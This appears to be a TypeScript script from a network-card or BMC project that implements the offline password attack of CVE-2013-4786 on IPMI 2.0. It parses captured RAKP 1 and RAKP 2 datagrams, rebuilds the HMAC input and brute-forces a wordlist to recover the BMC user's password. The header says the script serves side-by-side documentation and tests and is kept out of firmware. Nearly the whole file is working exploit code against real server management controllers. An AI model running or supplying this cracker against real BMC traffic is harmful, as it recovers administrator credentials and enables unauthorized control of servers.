/**
 * CVE-2013-4786, the offline half: RAKP 2 carries HMAC_Kuid(SID_M | SID_C | R_M | R_C | GUID_C | ROLE_M | ULEN_M |
 * UNAME_M) before the console has proved anything (IPMI v2.0 §13.21; cat. §9), so anyone holding one RAKP 1 +
 * RAKP 2 pair (captured on the wire, or asked for with nothing but a user name) can test passwords offline
 * at hash speed. This is what Metasploit's ipmi_dumphashes and hashcat mode 7300 do. It lives in scripts/ for the
 * side-by-side (scripts/offline-guess.ts, docs/IPMI.md) and the tests, never in firmware/: the NIC must not ship an
 * attack, only let its users see what lanplus gives away.
 */
import { createHmac } from 'node:crypto';

export interface RakpPair {
  /** RMCP+ datagram carrying RAKP 1 (payload type 12h), console -> BMC. */
  rakp1: Uint8Array;
  /** RMCP+ datagram carrying RAKP 2 (payload type 13h), BMC -> console. */
  rakp2: Uint8Array;
}

/** The "salt" and the target code, read from the two payloads (cat. §9 "What a passive capture needs"). */
export function rakpHashInput(pair: RakpPair): { salt: Buffer; code: Buffer; hash: 'sha1' | 'sha256'; user: string } {
  const p1 = pair.rakp1.subarray(16);
  const p2 = pair.rakp2.subarray(16);
  if (pair.rakp1[5] !== 0x12 || pair.rakp2[5] !== 0x13) throw new Error('expected a RAKP 1 and a RAKP 2 datagram');
  if (p2[1] !== 0) throw new Error(`RAKP 2 status 0x${p2[1].toString(16)}: no code to attack (unknown user?)`);
  const ulen = p1[27];
  const uname = p1.subarray(28, 28 + ulen);
  const code = Buffer.from(p2.subarray(40));
  const salt = Buffer.concat([
    p2.subarray(4, 8), // SID_M
    p1.subarray(4, 8), // SID_C
    p1.subarray(8, 24), // R_M
    p2.subarray(8, 24), // R_C
    p2.subarray(24, 40), // GUID_C
    Uint8Array.of(p1[24], ulen),
    uname,
  ]);
  return { salt, code, hash: code.length === 32 ? 'sha256' : 'sha1', user: Buffer.from(uname).toString('latin1') };
}

/** Tries every word; returns the password whose HMAC matches RAKP 2's code, or null. */
export function recoverRakpPassword(pair: RakpPair, words: Iterable<string>): { password: string; tried: number } | null {
  const { salt, code, hash } = rakpHashInput(pair);
  let tried = 0;
  for (const w of words) {
    tried++;
    if (createHmac(hash, w).update(salt).digest().equals(code)) return { password: w, tried };
  }
  return null;
}
